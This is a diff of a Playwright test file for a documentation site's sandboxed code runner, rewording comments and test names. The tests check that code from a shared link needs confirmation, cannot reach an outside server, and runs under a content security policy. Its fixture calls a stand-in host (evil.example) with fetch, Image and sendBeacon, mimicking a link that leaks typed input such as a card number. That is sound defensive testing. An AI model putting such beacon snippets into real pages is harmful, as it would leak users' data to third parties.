@@ -19,13 +19,13 @@ import { expectNoSidewaysScroll, openVariant } from '../testing/visitor/variants
 import { waitForIdle } from '../testing/visitor/waitForIdle';
 import { watchConsole } from '../testing/visitor/watchConsole';
 
-/** Code that comes with a link, which anybody can have written. */
+/** Code from a link, which anyone could have written. */
 
 const PAGE = '/x/react-tree-view/quickstart/';
 const NAME = 'FirstSimpleTree';
 const STRANGER = 'https://evil.example/';
 
-/** It would ask others as soon as it runs, and takes what readers type. */
+/** It would send requests as soon as it runs, and reads what readers type. */
 const CODE = `fetch('${STRANGER}fetch').catch(() => {});
 new Image().src = '${STRANGER}image';
 navigator.sendBeacon('${STRANGER}beacon');
@@ -60,7 +60,7 @@ const PLACES = [
 const getButton = (place: Locator) => place.getByRole('button', { name: 'Run this code' });
 const getResult = (place: Locator) => place.frameLocator('iframe');
 
-/** What is asked for outside of the site, or of the documents in which code runs. */
+/** Collects requests outside of the site, or outside of the documents in which code runs. */
 function watchRequests(page: Page, site: string): string[] {
   const asked: string[] = [];
   page.on('request', (request) => {
@@ -73,7 +73,7 @@ function watchRequests(page: Page, site: string): string[] {
   return asked;
 }
 
-/** What reaches a stranger's server. */
+/** Collects the requests that reach a stranger's server. */
 async function serveStranger(page: Page): Promise<string[]> {
   const received: string[] = [];
   await page.context().route(`${STRANGER}**`, (route) => {
@@ -85,7 +85,7 @@ async function serveStranger(page: Page): Promise<string[]> {
 
 for (const [name, link, find] of PLACES) {
   test.describe(`a link with code to ${name}`, () => {
-    test('runs and asks nothing before the reader says so, and reaches nobody after', async ({
+    test('runs and requests nothing before the reader runs it, and has no network access afterwards', async ({
       page,
       baseURL,
     }) => {
@@ -107,12 +107,12 @@ for (const [name, link, find] of PLACES) {
       await result.getByLabel('Card number').fill('4111');
       await result.getByRole('button', { name: 'Pay' }).click();
       await expect(result.getByLabel('Card number')).toHaveValue('4111');
-      // Requests that a policy blocks may keep the network from ever being idle.
+      // Requests blocked by a policy may keep the network from ever being idle.
       await waitForIdle(page);
       expect(received).toEqual([]);
     });
 
-    test('waits through edits', async ({ page }) => {
+    test('waits while it is edited', async ({ page }) => {
       await page.goto(link());
       const place = find(page);
       await expect(getButton(place)).toBeVisible();
@@ -124,7 +124,7 @@ for (const [name, link, find] of PLACES) {
       await expect(getButton(place)).toBeVisible();
     });
 
-    test('runs at once after a reload of what the reader has run, and asks in another tab', async ({
+    test('runs immediately after a reload if the reader has run it, and asks in another tab', async ({
       page,
       context,
     }) => {
@@ -138,7 +138,7 @@ for (const [name, link, find] of PLACES) {
       await other.goto(link());
       await expect(getButton(find(other))).toBeVisible();
       await expect(other.locator('iframe')).toHaveCount(0);
-      // Other code is another matter in the first tab, too.
+      // Different code needs confirmation in the first tab as well.
       await page.goto('about:blank');
       await page.goto(link(CODE.replace('Pay', 'Buy')));
       await expect(getButton(find(page))).toBeVisible();
@@ -147,7 +147,7 @@ for (const [name, link, find] of PLACES) {
       await expect(page.locator('iframe')).toHaveCount(0);
     });
 
-    test('is in sight, is run by keyboard, and the focus stays there', async ({ page }) => {
+    test('is in view, runs with the keyboard, and the focus stays there', async ({ page }) => {
       await page.goto(link());
       const place = find(page);
       await expect(getButton(place)).toBeInViewport();
@@ -193,7 +193,7 @@ for (const [name, link, find] of PLACES) {
   });
 }
 
-test.describe('code that the reader has written', () => {
+test.describe('code written by the reader', () => {
   const OWN = 'export default function App() {\n  return <p>My own</p>;\n}\n';
 
   async function write(page: Page, place: Locator): Promise<void> {
@@ -206,7 +206,7 @@ test.describe('code that the reader has written', () => {
     await expect(getResult(place).getByText('My own')).toBeVisible();
   }
 
-  test('runs at once where its link is opened in the same tab, from a page', async ({
+  test('runs immediately if its link is opened in the same tab, from a page', async ({
     page,
     context,
   }) => {
@@ -230,7 +230,7 @@ test.describe('code that the reader has written', () => {
     await expect(getResult(page.getByRole('main')).getByText('My own')).toBeVisible();
   });
 
-  test('runs at once after it was shared and reloaded in the playground', async ({ page }) => {
+  test('runs immediately after it was shared and reloaded in the playground', async ({ page }) => {
     await page.goto('/playground/');
     const main = page.getByRole('main');
     await write(page, main);
@@ -242,7 +242,7 @@ test.describe('code that the reader has written', () => {
   });
 });
 
-/** A policy's directives with their sources, without what stands for the document's own address and code. */
+/** A policy's directives with their sources, without those for the document's own URL and code. */
 function parsePolicy(policy: string, own: RegExp): Record<string, string[]> {
   return Object.fromEntries(
     policy.split('; ').map((directive) => {
@@ -252,7 +252,7 @@ function parsePolicy(policy: string, own: RegExp): Record<string, string[]> {
   );
 }
 
-test('the document in which code runs says the policy with which it is sent', async ({ page }) => {
+test('the document in which code runs has the policy that it is sent with', async ({ page }) => {
   const response = await page.goto('/runner/v8/');
   const own = /^('self'|https?:\/\/.*\/runner\/.*|'sha256-.*')$/;
   const sent = parsePolicy(response!.headers()['content-security-policy']!, own);
@@ -271,7 +271,7 @@ test('the document in which code runs says the policy with which it is sent', as
   });
 });
 
-test('a stranger’s page has no code run with the origin of the site, on a host without headers too', async ({
+test("a stranger's page can't run code with the site's origin, even on a host without headers", async ({
   page,
   baseURL,
 }) => {
@@ -317,7 +317,7 @@ test('a stranger’s page has no code run with the origin of the site, on a host
   await expect.poll(read).toContain('ran in null');
 });
 
-test('code runs in documents of another origin where the deployer has one', async ({
+test('code runs in documents from another origin if the deployer has one', async ({
   page,
   request,
   baseURL,
